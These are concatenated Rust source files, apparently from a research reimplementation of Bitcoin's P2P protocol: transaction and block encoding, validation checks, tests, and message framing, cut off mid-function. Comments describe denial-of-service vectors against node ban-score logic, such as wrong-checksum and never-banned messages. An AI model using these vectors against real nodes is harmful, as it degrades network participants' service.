    fn merkle_branch_proves_every_leaf() {
        let leaves: Vec<Hash256> = (0..7u8).map(|i| Hash256::hash(&[i])).collect();
        let root = merkle_root(&leaves);
        for (i, leaf) in leaves.iter().enumerate() {
            let branch = MerkleBranch::build(&leaves, i);
            assert_eq!(branch.compute_root(*leaf), root, "leaf {i}");
        }
    }

    #[test]
    fn merkle_branch_detects_wrong_leaf() {
        let leaves: Vec<Hash256> = (0..4u8).map(|i| Hash256::hash(&[i])).collect();
        let root = merkle_root(&leaves);
        let branch = MerkleBranch::build(&leaves, 2);
        assert_ne!(branch.compute_root(Hash256::hash(b"evil")), root);
    }

    #[test]
    fn block_roundtrip() {
        let b = mined_block(b"rt", 2);
        assert_eq!(Block::decode_all(&b.encode_to_vec()).unwrap(), b);
    }

    #[test]
    fn headers_entry_roundtrip() {
        let e = HeadersEntry(BlockHeader::default());
        let enc = e.encode_to_vec();
        assert_eq!(enc.len(), 81);
        assert_eq!(HeadersEntry::decode_all(&enc).unwrap(), e);
    }
}
