//! Transactions: inputs, outputs, witnesses, txid/wtxid computation and the
//! structural + SegWit checks the `TX` ban-score rule keys off.
//!
//! `Transaction` memoizes its txid/wtxid: the mempool, merkle-root
//! construction and compact-block short-id computation all re-request the
//! same identifiers, and re-serializing the transaction each time dominated
//! their cost. The fields are private so every mutation path (the `*_mut`
//! accessors and setters) can invalidate the cache; construction goes
//! through [`Transaction::new`].

use std::fmt;
use std::sync::OnceLock;

use crate::encode::{
    decode_vec, encode_vec, Decodable, DecodeError, DecodeResult, Encodable, Reader, Writer,
};
use crate::types::Hash256;

/// Maximum serialized transaction weight Bitcoin accepts (BIP141).
pub const MAX_TX_WEIGHT: usize = 400_000;

/// Maximum script element size in bytes.
pub const MAX_SCRIPT_ELEMENT_SIZE: u64 = 520;

/// Maximum inputs/outputs we'll decode in one transaction (sanity bound well
/// above anything consensus-valid).
const MAX_TX_IO: u64 = 100_000;

/// 21 million BTC in satoshis: no output may exceed this.
pub const MAX_MONEY: i64 = 21_000_000 * 100_000_000;

/// A reference to a previous transaction output.
#[derive(Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Debug)]
pub struct OutPoint {
    /// Txid of the funding transaction.
    pub txid: Hash256,
    /// Output index within it.
    pub vout: u32,
}

impl OutPoint {
    /// The null outpoint marking a coinbase input.
    pub const NULL: OutPoint = OutPoint {
        txid: Hash256::ZERO,
        vout: u32::MAX,
    };

    /// Creates an outpoint.
    pub fn new(txid: Hash256, vout: u32) -> Self {
        OutPoint { txid, vout }
    }

    /// Whether this is the coinbase null pointer.
    pub fn is_null(&self) -> bool {
        *self == OutPoint::NULL
    }
}

impl Encodable for OutPoint {
    fn encode(&self, w: &mut Writer) {
        self.txid.encode(w);
        w.u32_le(self.vout);
    }
}

impl Decodable for OutPoint {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        Ok(OutPoint {
            txid: Hash256::decode(r)?,
            vout: r.u32_le()?,
        })
    }
}

/// A transaction input.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct TxIn {
    /// Spent output.
    pub prevout: OutPoint,
    /// Unlocking script.
    pub script_sig: Vec<u8>,
    /// Relative-locktime / RBF sequence field.
    pub sequence: u32,
    /// SegWit witness stack (not serialized in the legacy format).
    pub witness: Vec<Vec<u8>>,
}

impl TxIn {
    /// An input spending `prevout` with an empty script.
    pub fn new(prevout: OutPoint) -> Self {
        TxIn {
            prevout,
            script_sig: Vec::new(),
            sequence: u32::MAX,
            witness: Vec::new(),
        }
    }
}

impl Encodable for TxIn {
    fn encode(&self, w: &mut Writer) {
        self.prevout.encode(w);
        w.var_bytes(&self.script_sig);
        w.u32_le(self.sequence);
    }
}

impl Decodable for TxIn {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        Ok(TxIn {
            prevout: OutPoint::decode(r)?,
            script_sig: r.var_bytes("script_sig", 10_000)?,
            sequence: r.u32_le()?,
            witness: Vec::new(),
        })
    }
}

/// A transaction output.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct TxOut {
    /// Value in satoshis.
    pub value: i64,
    /// Locking script.
    pub script_pubkey: Vec<u8>,
}

impl TxOut {
    /// An output paying `value` satoshis to `script_pubkey`.
    pub fn new(value: i64, script_pubkey: Vec<u8>) -> Self {
        TxOut {
            value,
            script_pubkey,
        }
    }
}

impl Encodable for TxOut {
    fn encode(&self, w: &mut Writer) {
        w.i64_le(self.value);
        w.var_bytes(&self.script_pubkey);
    }
}

impl Decodable for TxOut {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        Ok(TxOut {
            value: r.i64_le()?,
            script_pubkey: r.var_bytes("script_pubkey", 10_000)?,
        })
    }
}

/// Lazily computed txid/wtxid. Not part of the transaction's value: cloning
/// carries it, comparison and hashing ignore it.
#[derive(Default)]
struct IdCache {
    txid: OnceLock<Hash256>,
    wtxid: OnceLock<Hash256>,
}

impl IdCache {
    fn cloned(&self) -> IdCache {
        let c = IdCache::default();
        if let Some(t) = self.txid.get() {
            let _ = c.txid.set(*t);
        }
        if let Some(w) = self.wtxid.get() {
            let _ = c.wtxid.set(*w);
        }
        c
    }
}

/// A Bitcoin transaction (legacy or SegWit serialization).
///
/// Fields are private to keep the memoized txid/wtxid coherent: read through
/// the getters, mutate through the `*_mut` accessors or setters (which drop
/// the cache), construct with [`Transaction::new`].
pub struct Transaction {
    /// Version (1 or 2 in practice).
    version: i32,
    /// Inputs.
    inputs: Vec<TxIn>,
    /// Outputs.
    outputs: Vec<TxOut>,
    /// Lock time.
    lock_time: u32,
    /// Memoized identifiers.
    ids: IdCache,
}

impl Clone for Transaction {
    fn clone(&self) -> Self {
        Transaction {
            version: self.version,
            inputs: self.inputs.clone(),
            outputs: self.outputs.clone(),
            lock_time: self.lock_time,
            ids: self.ids.cloned(),
        }
    }
}

impl PartialEq for Transaction {
    fn eq(&self, other: &Self) -> bool {
        self.version == other.version
            && self.inputs == other.inputs
            && self.outputs == other.outputs
            && self.lock_time == other.lock_time
    }
}

impl Eq for Transaction {}

impl fmt::Debug for Transaction {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Transaction")
            .field("version", &self.version)
            .field("inputs", &self.inputs)
            .field("outputs", &self.outputs)
            .field("lock_time", &self.lock_time)
            .finish()
    }
}

impl Transaction {
    /// Creates a transaction from its four consensus fields.
    pub fn new(version: i32, inputs: Vec<TxIn>, outputs: Vec<TxOut>, lock_time: u32) -> Self {
        Transaction {
            version,
            inputs,
            outputs,
            lock_time,
            ids: IdCache::default(),
        }
    }

    /// A minimal coinbase transaction paying `value` with `tag` as the
    /// script-sig payload (used to make distinct txids).
    pub fn coinbase(value: i64, tag: &[u8]) -> Self {
        let mut input = TxIn::new(OutPoint::NULL);
        input.script_sig = tag.to_vec();
        Transaction::new(
            1,
            vec![input],
            vec![TxOut::new(value, vec![0x51])], // OP_TRUE
            0,
        )
    }

    /// Version field.
    pub fn version(&self) -> i32 {
        self.version
    }

    /// Lock time field.
    pub fn lock_time(&self) -> u32 {
        self.lock_time
    }

    /// Inputs, read-only.
    pub fn inputs(&self) -> &[TxIn] {
        &self.inputs
    }

    /// Outputs, read-only.
    pub fn outputs(&self) -> &[TxOut] {
        &self.outputs
    }

    /// Mutable access to the inputs. Drops the memoized ids.
    pub fn inputs_mut(&mut self) -> &mut Vec<TxIn> {
        self.ids = IdCache::default();
        &mut self.inputs
    }

    /// Mutable access to the outputs. Drops the memoized ids.
    pub fn outputs_mut(&mut self) -> &mut Vec<TxOut> {
        self.ids = IdCache::default();
        &mut self.outputs
    }

    /// Sets the version. Drops the memoized ids.
    pub fn set_version(&mut self, version: i32) {
        self.ids = IdCache::default();
        self.version = version;
    }

    /// Sets the lock time. Drops the memoized ids.
    pub fn set_lock_time(&mut self, lock_time: u32) {
        self.ids = IdCache::default();
        self.lock_time = lock_time;
    }

    /// Whether this transaction is a coinbase.
    pub fn is_coinbase(&self) -> bool {
        matches!(self.inputs.as_slice(), [only] if only.prevout.is_null())
    }

    /// Whether any input carries witness data.
    pub fn has_witness(&self) -> bool {
        self.inputs.iter().any(|i| !i.witness.is_empty())
    }

    /// Txid: double-SHA256 of the *legacy* serialization (witnesses
    /// stripped). Memoized; the serialization happens at most once per
    /// transaction value.
    pub fn txid(&self) -> Hash256 {
        *self.ids.txid.get_or_init(|| {
            let mut w = Writer::new();
            self.encode_legacy(&mut w);
            Hash256::hash(&w.into_bytes())
        })
    }

    /// Wtxid: double-SHA256 of the full (witness) serialization. Memoized.
    pub fn wtxid(&self) -> Hash256 {
        if !self.has_witness() {
            return self.txid();
        }
        *self.ids.wtxid.get_or_init(|| {
            let mut w = Writer::new();
            self.encode(&mut w);
            Hash256::hash(&w.into_bytes())
        })
    }

    /// Serializes without witness data (txid preimage).
    pub fn encode_legacy(&self, w: &mut Writer) {
        w.i32_le(self.version);
        encode_vec(w, &self.inputs);
        encode_vec(w, &self.outputs);
        w.u32_le(self.lock_time);
    }

    /// Structural sanity checks mirroring Bitcoin Core's `CheckTransaction`.
    ///
    /// # Errors
    ///
    /// A static description of the first violated rule.
    pub fn check(&self) -> Result<(), &'static str> {
        if self.inputs.is_empty() {
            return Err("bad-txns-vin-empty");
        }
        if self.outputs.is_empty() {
            return Err("bad-txns-vout-empty");
        }
        let mut total: i64 = 0;
        for out in &self.outputs {
            if out.value < 0 {
                return Err("bad-txns-vout-negative");
            }
            if out.value > MAX_MONEY {
                return Err("bad-txns-vout-toolarge");
            }
            total = total.saturating_add(out.value);
            if total > MAX_MONEY {
                return Err("bad-txns-txouttotal-toolarge");
            }
        }
        let mut seen = std::collections::BTreeSet::new();
        for inp in &self.inputs {
            if !seen.insert(inp.prevout) {
                return Err("bad-txns-inputs-duplicate");
            }
        }
        if self.is_coinbase() {
            let len = self.inputs.first().map_or(0, |i| i.script_sig.len());
            if !(2..=100).contains(&len) {
                return Err("bad-cb-length");
            }
        } else if self.inputs.iter().any(|i| i.prevout.is_null()) {
            return Err("bad-txns-prevout-null");
        }
        Ok(())
    }

    /// SegWit consensus checks (BIP141): witness stack element size limits.
    ///
    /// This is the check whose failure triggers the paper's Table-I `TX` rule
    /// ("invalid by consensus rules of SegWit", +100).
    ///
    /// # Errors
    ///
    /// A static description of the violated witness rule.
    pub fn check_witness(&self) -> Result<(), &'static str> {
        for inp in &self.inputs {
            for elem in &inp.witness {
                if elem.len() as u64 > MAX_SCRIPT_ELEMENT_SIZE {
                    return Err("bad-witness-script-element-size");
                }
            }
            if inp.witness.len() > 100 {
                return Err("bad-witness-stack-size");
            }
        }
        Ok(())
    }

    /// BIP141 weight: `3 * legacy_size + total_size`.
    pub fn weight(&self) -> usize {
        let mut lw = Writer::new();
        self.encode_legacy(&mut lw);
        let legacy = lw.len();
        let total = self.encoded_len();
        3 * legacy + total
    }
}

impl Encodable for Transaction {
    fn encode(&self, w: &mut Writer) {
        if !self.has_witness() {
            self.encode_legacy(w);
            return;
        }
        // BIP144: marker 0x00, flag 0x01, then witness stacks after outputs.
        w.i32_le(self.version);
        w.u8(0x00);
        w.u8(0x01);
        encode_vec(w, &self.inputs);
        encode_vec(w, &self.outputs);
        for inp in &self.inputs {
            w.compact_size(inp.witness.len() as u64);
            for elem in &inp.witness {
                w.var_bytes(elem);
            }
        }
        w.u32_le(self.lock_time);
    }
}

impl Decodable for Transaction {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        let version = r.i32_le()?;
        // Peek at the input count: 0x00 here means the BIP144 marker.
        let mark = r.u8()?;
        let (mut inputs, outputs, segwit) = if mark == 0x00 {
            let flag = r.u8()?;
            if flag != 0x01 {
                return Err(DecodeError::InvalidValue("bad segwit flag"));
            }
            let inputs: Vec<TxIn> = decode_vec(r, "tx inputs", MAX_TX_IO)?;
            if inputs.is_empty() {
                return Err(DecodeError::InvalidValue("segwit tx with no inputs"));
            }
            let outputs: Vec<TxOut> = decode_vec(r, "tx outputs", MAX_TX_IO)?;
            (inputs, outputs, true)
        } else {
            // Re-interpret the peeked byte as the start of a CompactSize.
            let n_in = match mark {
                0..=0xfc => mark as u64,
                0xfd => {
                    let v = r.u16_le()? as u64;
                    if v < 0xfd {
                        return Err(DecodeError::NonCanonicalVarInt);
                    }
                    v
                }
                0xfe => {
                    let v = r.u32_le()? as u64;
                    if v <= u16::MAX as u64 {
                        return Err(DecodeError::NonCanonicalVarInt);
                    }
                    v
                }
                0xff => {
                    let v = r.u64_le()?;
                    if v <= u32::MAX as u64 {
                        return Err(DecodeError::NonCanonicalVarInt);
                    }
                    v
                }
            };
            if n_in > MAX_TX_IO {
                return Err(DecodeError::OversizedLength {
                    what: "tx inputs",
                    len: n_in,
                    max: MAX_TX_IO,
                });
            }
            let mut inputs = Vec::with_capacity((n_in as usize).min(crate::encode::MAX_VEC_PREALLOC));
            for _ in 0..n_in {
                inputs.push(TxIn::decode(r)?);
            }
            let outputs: Vec<TxOut> = decode_vec(r, "tx outputs", MAX_TX_IO)?;
            (inputs, outputs, false)
        };
        if segwit {
            for inp in inputs.iter_mut() {
                let n = r.bounded_compact_size("witness stack", 10_000)?;
                let mut stack = Vec::with_capacity((n as usize).min(crate::encode::MAX_VEC_PREALLOC));
                for _ in 0..n {
                    stack.push(r.var_bytes("witness element", 1_000_000)?);
                }
                inp.witness = stack;
            }
        }
        let lock_time = r.u32_le()?;
        Ok(Transaction::new(version, inputs, outputs, lock_time))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample_tx() -> Transaction {
        Transaction::new(
            2,
            vec![TxIn::new(OutPoint::new(Hash256::hash(b"prev"), 0))],
            vec![TxOut::new(50_000, vec![0x51])],
            0,
        )
    }

    #[test]
    fn legacy_roundtrip() {
        let tx = sample_tx();
        let enc = tx.encode_to_vec();
        assert_eq!(Transaction::decode_all(&enc).unwrap(), tx);
    }

    #[test]
    fn segwit_roundtrip() {
        let mut tx = sample_tx();
        tx.inputs_mut()[0].witness = vec![vec![1, 2, 3], vec![4; 70]];
        let enc = tx.encode_to_vec();
        let dec = Transaction::decode_all(&enc).unwrap();
        assert_eq!(dec, tx);
        assert!(dec.has_witness());
    }

    #[test]
    fn txid_ignores_witness() {
        let mut a = sample_tx();
        let txid_before = a.txid();
        a.inputs_mut()[0].witness = vec![vec![9; 32]];
        assert_eq!(a.txid(), txid_before);
        assert_ne!(a.wtxid(), a.txid());
    }

    #[test]
    fn wtxid_equals_txid_without_witness() {
        let tx = sample_tx();
        assert_eq!(tx.wtxid(), tx.txid());
    }

    #[test]
    fn cached_ids_survive_clone_and_invalidate_on_mutation() {
        let mut tx = sample_tx();
        let id = tx.txid();
        let cloned = tx.clone();
        assert_eq!(cloned.txid(), id);
        // Any mutation path must drop the cache and change the id.
        tx.outputs_mut()[0].value += 1;
        assert_ne!(tx.txid(), id);
        tx.set_lock_time(7);
        let id2 = tx.txid();
        assert_ne!(id2, id);
        tx.set_version(3);
        assert_ne!(tx.txid(), id2);
    }

    #[test]
    fn equality_ignores_cache_state() {
        let warm = sample_tx();
        let _ = warm.txid();
        let cold = sample_tx();
        assert_eq!(warm, cold);
    }

    #[test]
    fn coinbase_detection() {
        let cb = Transaction::coinbase(50 * 100_000_000, b"height:1");
        assert!(cb.is_coinbase());
        assert!(cb.check().is_ok());
        assert!(!sample_tx().is_coinbase());
    }

    #[test]
    fn check_rejects_empty_io() {
        let mut tx = sample_tx();
        tx.inputs_mut().clear();
        assert_eq!(tx.check(), Err("bad-txns-vin-empty"));
        let mut tx = sample_tx();
        tx.outputs_mut().clear();
        assert_eq!(tx.check(), Err("bad-txns-vout-empty"));
    }

    #[test]
    fn check_rejects_bad_values() {
        let mut tx = sample_tx();
        tx.outputs_mut()[0].value = -1;
        assert_eq!(tx.check(), Err("bad-txns-vout-negative"));
        let mut tx = sample_tx();
        tx.outputs_mut()[0].value = MAX_MONEY + 1;
        assert_eq!(tx.check(), Err("bad-txns-vout-toolarge"));
        let mut tx = sample_tx();
        *tx.outputs_mut() = vec![TxOut::new(MAX_MONEY, vec![]), TxOut::new(1, vec![])];
        assert_eq!(tx.check(), Err("bad-txns-txouttotal-toolarge"));
    }

    #[test]
    fn check_rejects_duplicate_inputs() {
        let mut tx = sample_tx();
        let dup = tx.inputs()[0].clone();
        tx.inputs_mut().push(dup);
        assert_eq!(tx.check(), Err("bad-txns-inputs-duplicate"));
    }

    #[test]
    fn check_rejects_null_prevout_in_non_coinbase() {
        let mut tx = sample_tx();
        tx.inputs_mut().push(TxIn::new(OutPoint::NULL));
        assert_eq!(tx.check(), Err("bad-txns-prevout-null"));
    }

    #[test]
    fn coinbase_script_length_bounds() {
        let cb = Transaction::coinbase(1, b"x"); // 1 byte: too short
        assert_eq!(cb.check(), Err("bad-cb-length"));
        let cb = Transaction::coinbase(1, &[0u8; 101]);
        assert_eq!(cb.check(), Err("bad-cb-length"));
    }

    #[test]
    fn witness_element_size_rule() {
        let mut tx = sample_tx();
        tx.inputs_mut()[0].witness = vec![vec![0u8; 521]];
        assert_eq!(tx.check_witness(), Err("bad-witness-script-element-size"));
        tx.inputs_mut()[0].witness = vec![vec![0u8; 520]];
        assert!(tx.check_witness().is_ok());
    }

    #[test]
    fn witness_stack_size_rule() {
        let mut tx = sample_tx();
        tx.inputs_mut()[0].witness = vec![vec![1]; 101];
        assert_eq!(tx.check_witness(), Err("bad-witness-stack-size"));
    }

    #[test]
    fn weight_counts_witness_once() {
        let legacy = sample_tx();
        let mut segwit = sample_tx();
        segwit.inputs_mut()[0].witness = vec![vec![0u8; 100]];
        assert!(segwit.weight() > legacy.weight());
        // Witness bytes cost 1 weight unit, legacy bytes 4.
        assert!(segwit.weight() < legacy.weight() + 4 * 110);
    }

    #[test]
    fn bad_segwit_flag_rejected() {
        let mut tx = sample_tx();
        tx.inputs_mut()[0].witness = vec![vec![1]];
        let mut enc = tx.encode_to_vec();
        enc[5] = 0x02; // corrupt the flag byte
        assert!(matches!(
            Transaction::decode_all(&enc),
            Err(DecodeError::InvalidValue(_))
        ));
    }
}
