//! The 26 Bitcoin P2P message types of the 0.20.0 protocol, their payload
//! encodings, and the 24-byte message header framing
//! (`magic ‖ command ‖ length ‖ checksum`).
//!
//! Framing mirrors Bitcoin Core's processing order, which matters for the
//! paper's second BM-DoS vector: the checksum is verified **before** the
//! payload is deserialized or any misbehavior tracking runs, so a message
//! with a deliberately wrong checksum costs the victim a `sha256d` over the
//! payload yet can never raise the sender's ban score.

use crate::block::{Block, HeadersEntry};
use crate::bloom::{BloomFilter, FilterAdd};
use crate::compact::{BlockTxn, BlockTxnRequest, CompactBlock, SendCmpct};
use crate::constants::{MAX_ADDR_TO_SEND, MAX_HEADERS_RESULTS, MAX_INV_SZ};
use crate::encode::{
    decode_vec, encode_vec, Decodable, DecodeError, DecodeResult, Encodable, Reader, Writer,
    MAX_MESSAGE_SIZE,
};
use crate::tx::Transaction;
use crate::types::{BlockLocator, Hash256, Inventory, NetAddr, Network, ServiceFlags, TimestampedAddr};
use crate::bytes::Bytes;

/// Size of the fixed message header.
pub const HEADER_SIZE: usize = 24;

/// Decode-time slack over the misbehavior limits: oversized lists must reach
/// the ban-score layer (which punishes them) instead of failing at decode.
const OVERSIZE_SLACK: u64 = 4;

/// A `VERSION` payload.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct VersionMessage {
    /// Highest protocol version the sender speaks.
    pub version: u32,
    /// Services the sender provides.
    pub services: ServiceFlags,
    /// Sender's unix time.
    pub timestamp: i64,
    /// Address of the receiving node as seen by the sender.
    pub addr_recv: NetAddr,
    /// Address of the sender.
    pub addr_from: NetAddr,
    /// Random nonce for self-connection detection.
    pub nonce: u64,
    /// User agent, e.g. `/Satoshi:0.20.0/`.
    pub user_agent: String,
    /// Height of the sender's best chain.
    pub start_height: i32,
    /// Whether the peer wants tx relay (BIP37).
    pub relay: bool,
}

impl VersionMessage {
    /// A sane default version message from `addr_from` to `addr_recv`.
    pub fn new(addr_from: NetAddr, addr_recv: NetAddr, nonce: u64) -> Self {
        VersionMessage {
            version: crate::types::PROTOCOL_VERSION,
            services: ServiceFlags::NETWORK | ServiceFlags::WITNESS,
            timestamp: 0,
            addr_recv,
            addr_from,
            nonce,
            user_agent: "/Satoshi:0.20.0/".to_owned(),
            start_height: 0,
            relay: true,
        }
    }
}

impl Encodable for VersionMessage {
    fn encode(&self, w: &mut Writer) {
        w.u32_le(self.version);
        w.u64_le(self.services.0);
        w.i64_le(self.timestamp);
        self.addr_recv.encode(w);
        self.addr_from.encode(w);
        w.u64_le(self.nonce);
        w.var_string(&self.user_agent);
        w.i32_le(self.start_height);
        w.bool_flag(self.relay);
    }
}

impl Decodable for VersionMessage {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        Ok(VersionMessage {
            version: r.u32_le()?,
            services: ServiceFlags(r.u64_le()?),
            timestamp: r.i64_le()?,
            addr_recv: NetAddr::decode(r)?,
            addr_from: NetAddr::decode(r)?,
            nonce: r.u64_le()?,
            user_agent: r.var_string(256)?,
            start_height: r.i32_le()?,
            relay: r.u8()? != 0,
        })
    }
}

/// A `MERKLEBLOCK` payload (BIP37 filtered block).
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct MerkleBlockMsg {
    /// The block header.
    pub header: crate::block::BlockHeader,
    /// Total transactions in the block.
    pub total_txs: u32,
    /// Partial merkle tree hashes.
    pub hashes: Vec<Hash256>,
    /// Partial merkle tree flag bits.
    pub flags: Vec<u8>,
}

impl Encodable for MerkleBlockMsg {
    fn encode(&self, w: &mut Writer) {
        self.header.encode(w);
        w.u32_le(self.total_txs);
        encode_vec(w, &self.hashes);
        w.var_bytes(&self.flags);
    }
}

impl Decodable for MerkleBlockMsg {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        Ok(MerkleBlockMsg {
            header: crate::block::BlockHeader::decode(r)?,
            total_txs: r.u32_le()?,
            hashes: decode_vec(r, "merkleblock hashes", 1_000_000)?,
            flags: r.var_bytes("merkleblock flags", 1_000_000)?,
        })
    }
}

/// A (legacy) `REJECT` payload.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct RejectMessage {
    /// Command being rejected.
    pub message: String,
    /// Reject code (0x01 malformed … 0x43 dust).
    pub code: u8,
    /// Human-readable reason.
    pub reason: String,
    /// Optional extra data (txid/block hash).
    pub data: Option<Hash256>,
}

impl Encodable for RejectMessage {
    fn encode(&self, w: &mut Writer) {
        w.var_string(&self.message);
        w.u8(self.code);
        w.var_string(&self.reason);
        if let Some(h) = &self.data {
            h.encode(w);
        }
    }
}

impl Decodable for RejectMessage {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        let message = r.var_string(12)?;
        let code = r.u8()?;
        let reason = r.var_string(111)?;
        let data = if r.remaining() >= 32 {
            Some(Hash256::decode(r)?)
        } else {
            None
        };
        Ok(RejectMessage {
            message,
            code,
            reason,
            data,
        })
    }
}

/// Every message type of the 0.20.0 P2P protocol.
///
/// The paper's Table I covers 12 of these with ban-score rules; the other 14
/// (e.g. [`Message::Ping`]) are the "messages never getting banned" of
/// BM-DoS vector 1.
#[derive(Clone, PartialEq, Debug)]
pub enum Message {
    /// `version` — session handshake, first message on a connection.
    Version(VersionMessage),
    /// `verack` — handshake acknowledgment.
    Verack,
    /// `addr` — gossip of known peer addresses.
    Addr(Vec<TimestampedAddr>),
    /// `getaddr` — request an `addr` dump.
    GetAddr,
    /// `ping` — keepalive probe.
    Ping(u64),
    /// `pong` — keepalive answer.
    Pong(u64),
    /// `inv` — inventory announcement.
    Inv(Vec<Inventory>),
    /// `getdata` — request announced objects.
    GetData(Vec<Inventory>),
    /// `notfound` — requested objects not available.
    NotFound(Vec<Inventory>),
    /// `getblocks` — request block inventories from a locator.
    GetBlocks(BlockLocator),
    /// `getheaders` — request headers from a locator.
    GetHeaders(BlockLocator),
    /// `headers` — answer to `getheaders`.
    Headers(Vec<HeadersEntry>),
    /// `tx` — a transaction.
    Tx(Transaction),
    /// `block` — a full block.
    Block(Block),
    /// `mempool` — request mempool inventories.
    Mempool,
    /// `merkleblock` — filtered block (BIP37).
    MerkleBlock(MerkleBlockMsg),
    /// `sendheaders` — announce new blocks via `headers` (BIP130).
    SendHeaders,
    /// `feefilter` — minimum fee-rate for relayed txs (BIP133).
    FeeFilter(i64),
    /// `filterload` — install a bloom filter (BIP37).
    FilterLoad(BloomFilter),
    /// `filteradd` — add one element to the filter (BIP37).
    FilterAdd(FilterAdd),
    /// `filterclear` — remove the filter (BIP37).
    FilterClear,
    /// `sendcmpct` — negotiate compact blocks (BIP152).
    SendCmpct(SendCmpct),
    /// `cmpctblock` — a compact block (BIP152).
    CmpctBlock(CompactBlock),
    /// `getblocktxn` — request missing compact-block txs (BIP152).
    GetBlockTxn(BlockTxnRequest),
    /// `blocktxn` — answer to `getblocktxn` (BIP152).
    BlockTxn(BlockTxn),
    /// `reject` — legacy rejection notice.
    Reject(RejectMessage),
}

/// All 26 command strings, in a stable order.
pub const ALL_COMMANDS: [&str; 26] = [
    "version",
    "verack",
    "addr",
    "getaddr",
    "ping",
    "pong",
    "inv",
    "getdata",
    "notfound",
    "getblocks",
    "getheaders",
    "headers",
    "tx",
    "block",
    "mempool",
    "merkleblock",
    "sendheaders",
    "feefilter",
    "filterload",
    "filteradd",
    "filterclear",
    "sendcmpct",
    "cmpctblock",
    "getblocktxn",
    "blocktxn",
    "reject",
];

impl Message {
    /// The command string carried in the message header.
    pub fn command(&self) -> &'static str {
        match self {
            Message::Version(_) => "version",
            Message::Verack => "verack",
            Message::Addr(_) => "addr",
            Message::GetAddr => "getaddr",
            Message::Ping(_) => "ping",
            Message::Pong(_) => "pong",
            Message::Inv(_) => "inv",
            Message::GetData(_) => "getdata",
            Message::NotFound(_) => "notfound",
            Message::GetBlocks(_) => "getblocks",
            Message::GetHeaders(_) => "getheaders",
            Message::Headers(_) => "headers",
            Message::Tx(_) => "tx",
            Message::Block(_) => "block",
            Message::Mempool => "mempool",
            Message::MerkleBlock(_) => "merkleblock",
            Message::SendHeaders => "sendheaders",
            Message::FeeFilter(_) => "feefilter",
            Message::FilterLoad(_) => "filterload",
            Message::FilterAdd(_) => "filteradd",
            Message::FilterClear => "filterclear",
            Message::SendCmpct(_) => "sendcmpct",
            Message::CmpctBlock(_) => "cmpctblock",
            Message::GetBlockTxn(_) => "getblocktxn",
            Message::BlockTxn(_) => "blocktxn",
            Message::Reject(_) => "reject",
        }
    }

    /// Encodes only the payload (header excluded).
    pub fn encode_payload(&self) -> Vec<u8> {
        let mut w = Writer::new();
        match self {
            Message::Version(v) => v.encode(&mut w),
            Message::Verack
            | Message::GetAddr
            | Message::Mempool
            | Message::SendHeaders
            | Message::FilterClear => {}
            Message::Addr(v) => encode_vec(&mut w, v),
            Message::Ping(n) | Message::Pong(n) => w.u64_le(*n),
            Message::Inv(v) | Message::GetData(v) | Message::NotFound(v) => encode_vec(&mut w, v),
            Message::GetBlocks(l) | Message::GetHeaders(l) => l.encode(&mut w),
            Message::Headers(v) => encode_vec(&mut w, v),
            Message::Tx(t) => t.encode(&mut w),
            Message::Block(b) => b.encode(&mut w),
            Message::MerkleBlock(m) => m.encode(&mut w),
            Message::FeeFilter(f) => w.i64_le(*f),
            Message::FilterLoad(f) => f.encode(&mut w),
            Message::FilterAdd(f) => f.encode(&mut w),
            Message::SendCmpct(s) => s.encode(&mut w),
            Message::CmpctBlock(c) => c.encode(&mut w),
            Message::GetBlockTxn(g) => g.encode(&mut w),
            Message::BlockTxn(b) => b.encode(&mut w),
            Message::Reject(r) => r.encode(&mut w),
        }
        w.into_bytes().to_vec()
    }

    /// Decodes a payload for `command`.
    ///
    /// Oversized lists (the Table-I "oversize" misbehaviors) decode
    /// successfully up to a slack factor so the ban-score layer can observe
    /// and punish them.
    ///
    /// # Errors
    ///
    /// [`DecodeError::UnknownCommand`] for an unrecognized command, or any
    /// payload decode error.
    pub fn decode_payload(command: &str, payload: &[u8]) -> DecodeResult<Message> {
        let mut r = Reader::new(payload);
        let msg = match command {
            "version" => Message::Version(VersionMessage::decode(&mut r)?),
            "verack" => Message::Verack,
            "addr" => Message::Addr(decode_vec(
                &mut r,
                "addr list",
                MAX_ADDR_TO_SEND * OVERSIZE_SLACK,
            )?),
            "getaddr" => Message::GetAddr,
            "ping" => Message::Ping(r.u64_le()?),
            "pong" => Message::Pong(r.u64_le()?),
            "inv" => Message::Inv(decode_vec(&mut r, "inv list", MAX_INV_SZ * OVERSIZE_SLACK)?),
            "getdata" => Message::GetData(decode_vec(
                &mut r,
                "getdata list",
                MAX_INV_SZ * OVERSIZE_SLACK,
            )?),
            "notfound" => Message::NotFound(decode_vec(
                &mut r,
                "notfound list",
                MAX_INV_SZ * OVERSIZE_SLACK,
            )?),
            "getblocks" => Message::GetBlocks(BlockLocator::decode(&mut r)?),
            "getheaders" => Message::GetHeaders(BlockLocator::decode(&mut r)?),
            "headers" => Message::Headers(decode_vec(
                &mut r,
                "headers list",
                MAX_HEADERS_RESULTS * OVERSIZE_SLACK,
            )?),
            "tx" => Message::Tx(Transaction::decode(&mut r)?),
            "block" => Message::Block(Block::decode(&mut r)?),
            "mempool" => Message::Mempool,
            "merkleblock" => Message::MerkleBlock(MerkleBlockMsg::decode(&mut r)?),
            "sendheaders" => Message::SendHeaders,
            "feefilter" => Message::FeeFilter(r.i64_le()?),
            "filterload" => Message::FilterLoad(BloomFilter::decode(&mut r)?),
            "filteradd" => Message::FilterAdd(FilterAdd::decode(&mut r)?),
            "filterclear" => Message::FilterClear,
            "sendcmpct" => Message::SendCmpct(SendCmpct::decode(&mut r)?),
            "cmpctblock" => Message::CmpctBlock(CompactBlock::decode(&mut r)?),
